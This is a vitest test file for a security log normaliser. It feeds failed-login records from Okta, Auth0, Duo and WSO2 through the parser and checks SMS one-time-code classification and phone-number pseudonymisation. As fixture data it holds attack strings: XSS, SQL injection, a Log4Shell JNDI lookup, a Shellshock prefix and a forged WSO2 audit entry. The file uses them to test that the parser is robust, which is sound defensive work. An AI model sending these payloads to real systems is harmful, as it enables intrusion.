// Goal: what people type into a log-in form reaches the event whole, whatever they type; codes of one-time passwords are seen
// as such by the rules about them; a faked record within a record fakes nothing.
// Method: records of log-in services with hostile and broken content through the normaliser; what comes out is looked at.
import { describe, expect, it } from 'vitest';
import type { Source } from '../../../src/event/source.ts';
import { createNormalizer } from '../../../src/normalize/create-normalizer.ts';
import { detectParsers } from '../../../src/normalize/detect-parser.ts';
import { LOGSOURCES } from '../../../src/normalize/logsources.ts';
import { PARSERS } from '../../../src/normalize/parsers.ts';

const normalizer = createNormalizer({ journalId: 'j', pseudonymKey: 'k'.repeat(32) });
const SOURCE: Source = {
  ...{ id: 'sso', name: 'SSO', type: 'auto', province: '15', commune: undefined },
  ...{ timezone: 'Asia/Ho_Chi_Minh', transport: { kind: 'http' }, multilineStart: undefined },
  ...{ enabled: true, createdAtMs: 0, version: 1 },
};
const read = (type: string, body: string | Buffer) =>
  normalizer.normalize(
    {
      ...{ sourceId: 'sso', receivedAtMs: Date.UTC(2026, 10, 22, 3), transport: 'http', peer: '' },
      ...{ cutFromBytes: 0, body: Buffer.from(body), partition: 0, offset: 0 },
    },
    { ...SOURCE, type },
  ).doc;

const TIME = '2026-11-22T02:15:42.123Z';
/** One failed log-in of each service. */
const RECORDS: Readonly<Record<string, (user: string, agent: string) => string>> = {
  'okta.system': (user, agent) =>
    JSON.stringify({
      ...{ eventType: 'user.session.start', published: TIME, outcome: { result: 'FAILURE' } },
      actor: { id: '00u1', type: 'User', alternateId: user },
      client: { ipAddress: '198.51.100.23', userAgent: { rawUserAgent: agent } },
    }),
  'auth0.logs': (user, agent) =>
    JSON.stringify({
      log_id: '9002',
      data: {
        ...{ date: TIME, type: 'fp', ip: '198.51.100.23', client_id: 'a' },
        ...{ user_name: user, user_agent: agent },
      },
    }),
  'duo.auth': (user, agent) =>
    JSON.stringify({
      ...{ isotimestamp: TIME, factor: 'duo_push', result: 'denied', user: { name: user } },
      access_device: { ip: '198.51.100.23', browser: agent },
    }),
  'wso2.audit': (user, agent) =>
    `TID: [-1234] [2026-11-22 09:15:42,123] []  INFO {AUDIT_LOG} - Initiator=${user} Action=Login Target=null Data=${JSON.stringify({ RemoteAddress: '198.51.100.23', 'User Agent': agent })} Outcome=Failed`,
};
const TYPED: readonly string[] = [
  '<script>alert("1")</script>',
  `' OR '1'='1' -- \\"; DROP TABLE`,
  `\${jndi:ldap://192.0.2.66/a}`,
  'Nguyễn Văn Ẩn',
  'a'.repeat(8_000),
];

describe.each(Object.entries(RECORDS))('%s', (type, record) => {
  it.each(TYPED.map((typed) => [typed.slice(0, 40), typed]))(
    'keeps what was typed: %s',
    (_, typed) => {
      const body = record(typed, `() { :; }; ${typed}`);
      const doc = read(type, body);
      expect(doc).toMatchObject({
        '@timestamp': TIME,
        event: {
          kind: 'event',
          outcome: 'failure',
          category: expect.arrayContaining(['authentication']),
        },
        user: { name: typed },
        source: { ip: '198.51.100.23' },
      });
      expect(doc.event.original).toBe(body);
      expect(detectParsers(body, PARSERS)[0]?.parser.type).toBe(type);
      expect(read('auto', body).event.dataset).toBe(type);
    },
  );

  it('keeps bytes that are no UTF-8, and control characters, as far as they can be kept', () => {
    const body = Buffer.from(record('xấu?', '\u0016\u0003\u0001'));
    body[body.indexOf('?')] = 0xff;
    const doc = read(type, body);
    expect(doc.event.kind).toBe('event');
    expect(doc.tags).toContain('encoding_invalid');
    expect((doc['user'] as { name: string }).name).toContain('xấu\ufffd');
  });

  it('keeps a record that was cut off as a dead letter', () => {
    const body = record('a', 'b').slice(0, -25);
    const { event } = read(type, body);
    expect(['event', 'pipeline_error']).toContain(event.kind);
    expect(event.original).toBe(body);
  });
});

describe('one-time codes', () => {
  const okta = (eventType: string, result: string, factor: string) =>
    JSON.stringify({
      ...{
        eventType,
        published: TIME,
        outcome: { result },
        actor: { id: 'u', alternateId: 'canbo01' },
      },
      debugContext: { debugData: { factor, phoneNumber: '+84900000123' } },
    });
  const auth0 = (type: string, kind: string) =>
    JSON.stringify({
      data: {
        date: TIME,
        type,
        details: { authenticator: { type: kind }, phone_number: '0900000123' },
      },
    });
  const duo = (factor: string, result: string) =>
    JSON.stringify({ isotimestamp: TIME, factor, result, auth_device: { name: 'x (0900000123)' } });
  const wso2 = (action: string, result: string) =>
    `[2026-11-22 09:15:42,123]  INFO {AUDIT_LOG} - Initiator : a | Action : ${action} | Target : b | Data : {"AuthenticatorName":"smsotp","mobile":"0900000123"} | Result : ${result}`;

  it.each<[string, string, string | undefined]>([
    ['okta.system', okta('system.sms.send_factor_verify_message', 'SUCCESS', ''), 'requested'],
    ['okta.system', okta('system.sms.receive_status', 'FAILURE', ''), 'failed'],
    ['okta.system', okta('user.authentication.auth_via_mfa', 'FAILURE', 'SMS_FACTOR'), 'rejected'],
    ['okta.system', okta('user.authentication.auth_via_mfa', 'SUCCESS', 'SMS_FACTOR'), 'verified'],
    ['okta.system', okta('user.authentication.auth_via_mfa', 'SUCCESS', 'SIGNED_NONCE'), undefined],
    ['auth0.logs', auth0('gd_send_sms', 'sms'), 'requested'],
    ['auth0.logs', auth0('gd_auth_failed', 'sms'), 'rejected'],
    ['auth0.logs', auth0('gd_auth_succeed', 'push-notification'), undefined],
    ['duo.auth', duo('sms_refresh', 'success'), 'requested'],
    ['duo.auth', duo('sms_passcode', 'denied'), 'rejected'],
    ['duo.auth', duo('duo_push', 'denied'), undefined],
    ['wso2.audit', wso2('Send-SMS-OTP', 'Success'), 'requested'],
    ['wso2.audit', wso2('Login', 'Failed'), 'rejected'],
  ])('of %s are seen by the rules about them (%#)', (type, body, stage) => {
    const doc = read(type, body);
    expect(doc.gac.otp?.stage).toBe(stage);
    expect(JSON.stringify(doc)).not.toContain('900000123');
    if (stage !== undefined) {
      expect(doc.gac.otp).toMatchObject({ channel: 'sms', country_prefix: '84' });
      expect(LOGSOURCES.get(type)).toContainEqual(expect.objectContaining({ category: 'otp' }));
    }
  });
});

describe('an audit record of WSO2', () => {
  it('is not changed by one that was typed into it', () => {
    const typed = 'x Action=Add-User Target=admin Data={} Outcome=Success';
    const line = `[2026-11-22 09:15:42,123]  INFO {AUDIT_LOG} - Initiator=${typed} Action=LoginStepFailed Target=null Data={"a":" Action=Delete-User Data={}"} Outcome=Failed`;
    expect(read('wso2.audit', line)).toMatchObject({
      event: { action: 'LoginStepFailed', outcome: 'failure', category: ['authentication'] },
      user: { name: typed },
    });
  });

  it.each([
    ['PRIMARY/canbo01@carbon.super', { name: 'canbo01', domain: 'carbon.super' }],
    ['canbo01@tinh', { name: 'canbo01', domain: 'tinh' }],
    ['0fa51985-0000-4000-8000-298f9d68861f', { id: '0fa51985-0000-4000-8000-298f9d68861f' }],
  ])('names %s as its parts', (initiator, user) => {
    const data = '{"AuthenticatedUserTenantDomain":"tinh"}';
    const line = `[2026-11-22 09:15:42,123]  INFO {AUDIT_LOG} - Initiator=${initiator} Action=Login Target=null Data=${data} Outcome=Success`;
    expect(read('wso2.audit', line)['user']).toEqual(user);
  });
});
